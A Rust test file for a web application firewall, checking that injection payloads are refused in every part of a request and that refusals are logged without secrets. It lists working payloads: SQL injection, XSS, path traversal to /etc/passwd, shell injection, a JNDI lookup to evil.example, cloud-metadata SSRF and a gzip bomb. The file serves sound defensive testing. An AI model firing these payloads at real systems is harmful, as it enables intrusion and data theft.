//! One attack of each class in each part of a request.

use std::io::Write as _;

use flate2::Compression;
use flate2::write::GzEncoder;
use mantlet_testkit::wire::{self, Frame, WebSocket};
use mantlet_testkit::{Answer, FakeUpstream, lacking, left_out, run_program};

use super::common::{PATIENCE, assert_refused, gate};
use super::{SQL, escaped, get, post, quoted};

/// Classes of attacks, and a value of each.
const ATTACKS: [(&str, &str); 9] = [
    ("sqli", SQL),
    ("sqli", "x' UNION SELECT password FROM users-- "),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("path-traversal", "../../../../etc/passwd"),
    ("shell", "127.0.0.1; cat /etc/passwd"),
    ("template", "{{7*7}}{{config.items()}}"),
    ("expression", "${jndi:ldap://evil.example/a}"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("nosql", "{\"$ne\": null}"),
];

// covers: ETSM-13, ETSM-14, ETSM-23, SAMO-17, YMERA-09 (binary)
#[test]
fn attacks_are_refused_wherever_they_stand_and_never_reach_the_application() {
    let upstream = FakeUpstream::answering(Answer::ok("ok"));
    let gate = gate(&upstream, "");
    let address = gate.address();
    for (class, attack) in ATTACKS {
        let form = format!("page=2&value={}", escaped(attack));
        let parts = format!(
            "--B\r\nContent-Disposition: form-data; name=\"value\"\r\n\r\n{attack}\r\n--B--\r\n"
        );
        let json = format!("{{\"a\":[{{\"value\":{}}}]}}", quoted(attack));
        for (place, name, answer) in [
            ("query", "value", get(address, &format!("/?{form}"))),
            ("form", "value", post(address, "application/x-www-form-urlencoded", &form)),
            ("form", "value", post(address, "multipart/form-data; boundary=B", &parts)),
            ("json", "a.0.value", post(address, "application/json", &json)),
            ("json", "a.0.value", post(address, "text/plain", &json)),
        ] {
            let about = format!("{class} in {place}: {attack}");
            let event = assert_refused(&gate, &answer, (403, "waf-attack"), &about);
            assert_eq!(event["event.name"], "waf.request.refused", "{about}");
            assert_eq!(event["guard"], "waf", "{about}");
            assert_eq!(
                (&event["place"], &event["parameter"]),
                (&place.into(), &name.into()),
                "{about}: {event:#}"
            );
            assert!(event["class"].is_string() && event["score"].as_i64() >= Some(60), "{event:#}");
            assert!(!answer.text().contains(class), "{about}: {}", answer.text());
        }
        let cookie = format!("theme=dark; value={}", escaped(attack));
        let answer = wire::get(address, "/", &[("Cookie", &cookie)]);
        assert_refused(&gate, &answer, (403, "waf-attack"), &format!("{class} in a cookie"));
    }
    for header in ["User-Agent", "Referer", "X-Custom", "Accept-Language"] {
        let answer = wire::get(address, "/", &[(header, "${jndi:ldap://evil.example/a}")]);
        let event = assert_refused(&gate, &answer, (403, "waf-attack"), header);
        assert_eq!(event["place"], "header", "{event:#}");
    }
    let answer = get(address, "/users/1%27%20or%201%3D1--%20-");
    assert_eq!(assert_refused(&gate, &answer, (403, "waf-attack"), "path")["place"], "path");
    assert!(upstream.is_untouched(), "{:?}", upstream.requests());
    assert!(gate.metric("mantlet_attacks_total{kind=\"sqli\"}") >= 10, "{}", gate.metrics());
}

#[test]
fn etsm_d10_spaced_and_encoded_injections_are_found() {
    let upstream = FakeUpstream::answering(Answer::ok("ok"));
    let gate = gate(&upstream, "");
    for attack in [
        "1'/**/oR/**/1=1--",
        "1'\n\tor\n1\n=\n1-- -",
        "1' oR 'a'='a",
        "1 UNION/*!50000SELECT*/ 1,2,3",
        "'; DROP TABLE users;--",
        "1' AND SLEEP(5)-- -",
        "%31%27%20or%201%3D1--%20-",
    ] {
        let answer = get(gate.address(), &format!("/?id={}", escaped(attack)));
        assert_refused(&gate, &answer, (403, "waf-attack"), attack);
    }
    assert!(upstream.is_untouched());
}

#[test]
fn etsm_d11_scripts_that_no_word_list_knows_are_found() {
    let upstream = FakeUpstream::answering(Answer::ok("ok"));
    let gate = gate(&upstream, "");
    for attack in [
        "<script\n>alert(1)</script\n>",
        "<svg/onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "\"><iframe srcdoc=\"<script>alert(1)</script>\">",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<scr<script>ipt>alert(1)</script>",
    ] {
        let answer =
            post(gate.address(), "application/json", format!("{{\"q\":{}}}", quoted(attack)));
        assert_refused(&gate, &answer, (403, "waf-attack"), attack);
    }
    assert!(upstream.is_untouched());
}

#[test]
fn what_is_compressed_is_unpacked_before_it_is_looked_at() {
    let upstream = FakeUpstream::answering(Answer::ok("ok"));
    let gate = gate(&upstream, "");
    let gzip = |text: &[u8]| {
        let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
        gzip.write_all(text).unwrap();
        gzip.finish().unwrap()
    };
    let send = |coding: &str, body: &[u8]| {
        let headers = [("Content-Type", "application/json"), ("Content-Encoding", coding)];
        wire::request(gate.address(), "POST", "/", &headers, body)
    };
    let attack = gzip(format!("{{\"id\":\"{SQL}\"}}").as_bytes());
    assert_refused(&gate, &send("gzip", &attack), (403, "waf-attack"), "gzip");
    assert_refused(&gate, &send("x-gzip", &attack), (403, "waf-attack"), "x-gzip");
    assert_refused(&gate, &send("gzip, gzip", &attack), (415, "waf-coding"), "two codings");
    assert_refused(&gate, &send("compress", &attack), (415, "waf-coding"), "unknown");
    assert_refused(&gate, &send("br", &attack), (400, "waf-body"), "not as it says");
    let bomb = gzip(&vec![b' '; 64 << 20]);
    assert_refused(&gate, &send("gzip", &bomb), (413, "waf-decoded-size"), "a bomb");
    assert!(upstream.is_untouched());
    let fine = gzip(b"{\"id\":\"1\"}");
    assert_eq!(send("gzip", &fine).status, 200);
    assert_eq!(upstream.requests()[0].body, fine, "it goes out as it came");
}

#[test]
fn charsets_hide_nothing() {
    let upstream = FakeUpstream::answering(Answer::ok("ok"));
    let gate = gate(&upstream, "");
    let json = format!("{{\"id\":\"{SQL}\"}}");
    let wide: Vec<u8> = json.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let marked = [&[0xff, 0xfe], wide.as_slice()].concat();
    for body in [&wide, &marked] {
        let answer = post(gate.address(), "text/plain; charset=utf-16", body);
        assert_refused(&gate, &answer, (403, "waf-attack"), "UTF-16");
    }
    let answer = post(gate.address(), "text/html; charset=utf-7", "+ADw-script+AD4-alert(1)");
    assert_refused(&gate, &answer, (403, "waf-attack"), "UTF-7");
    assert!(upstream.is_untouched());
}

#[test]
fn a_message_on_a_websocket_is_looked_at() {
    let upstream = FakeUpstream::answering(Answer::WebSocketEcho);
    let gate = gate(&upstream, "");
    let open = || WebSocket::open(gate.address(), "/ws", &[]).unwrap_or_else(|it| panic!("{it:?}"));
    let mut socket = open();
    for text in ["please select an option from O'Brien's list", "{\"price\":\"$5; was $7\"}"] {
        socket.send(&Frame::text(text)).unwrap();
        assert_eq!(socket.read().unwrap(), Frame::text(text).unmasked());
    }
    for text in [SQL.to_owned(), format!("{{\"chat\":{{\"text\":\"{SQL}\"}}}}")] {
        let mut socket = open();
        socket.send(&Frame::text(&text)).unwrap();
        assert_eq!(socket.read_close().unwrap(), Some(1008), "{text}");
        let id = socket.response.header("x-request-id").unwrap().to_owned();
        let event = gate.wait_for_event(
            |event| event["request_id"] == *id && event["reason"] == "waf-attack",
            PATIENCE,
        );
        assert_eq!(event["place"], "message", "{event:#}");
    }
}

#[test]
fn attacks_over_http2_are_refused() {
    if !lacking(&["curl"]).is_empty() {
        return left_out("waf-guard", "lacks curl");
    }
    let upstream = FakeUpstream::answering(Answer::ok("ok"));
    let gate = gate(&upstream, "");
    let url = format!("http://{}/?id={}", gate.address(), escaped(SQL));
    let flags =
        ["-sS", "--http2-prior-knowledge", "-o", "-", "-w", "\n%{http_code} %{http_version}"];
    let done = run_program("curl", &[&flags[..], &[&url]].concat(), PATIENCE);
    if done.stderr.contains("does not support") || done.stderr.contains("built-in") {
        return left_out("waf-guard", "curl lacks HTTP/2");
    }
    assert!(done.stdout.ends_with("403 2"), "{done:?}");
    let url = format!("http://{}/", gate.address());
    let body = format!("{{\"id\":\"{SQL}\"}}");
    // What is declared as gRPC streams by, and only where it can be that.
    for kind in ["application/json", "application/grpc-web+json", "application/grpc"] {
        let kind = format!("Content-Type: {kind}");
        let done = run_program(
            "curl",
            &[&flags[..], &["-H", &kind, "-d", &body, &url]].concat(),
            PATIENCE,
        );
        assert!(done.stdout.contains("403 2") || done.stdout.contains("400 2"), "{kind}: {done:?}");
    }
    assert!(upstream.requests().iter().all(|request| !request.text().contains(SQL)));
}

// covers: YMERA-10, SAMO-35 (binary)
#[test]
fn ymera_d09_a_refusal_is_logged_without_the_secrets_of_its_request() {
    let upstream = FakeUpstream::answering(Answer::ok("ok"));
    let gate = gate(&upstream, "");
    let form = format!("user=a&password={}", escaped(&format!("hunter2-{SQL}")));
    let answer = post(gate.address(), "application/x-www-form-urlencoded", &form);
    let event = assert_refused(&gate, &answer, (403, "waf-attack"), "password");
    assert_eq!(
        (&event["parameter"], &event["evidence"]),
        (&"password".into(), &"[withheld]".into())
    );
    let long = format!("{SQL}{}", "A".repeat(5000));
    let answer = post(gate.address(), "application/json", format!("{{\"q\":{}}}", quoted(&long)));
    let event = assert_refused(&gate, &answer, (403, "waf-attack"), "long");
    assert!(event["evidence"].as_str().unwrap().len() <= 500, "{event:#}");
    assert!(!gate.story().contains("hunter2"), "{}", gate.story());
    let id = answer.header("x-request-id").unwrap();
    let explained = gate.command(&["explain", id]);
    for part in ["waf-attack", "class", "sqli", "json"] {
        assert!(explained.stdout.contains(part), "{part}: {explained:#?}");
    }
}
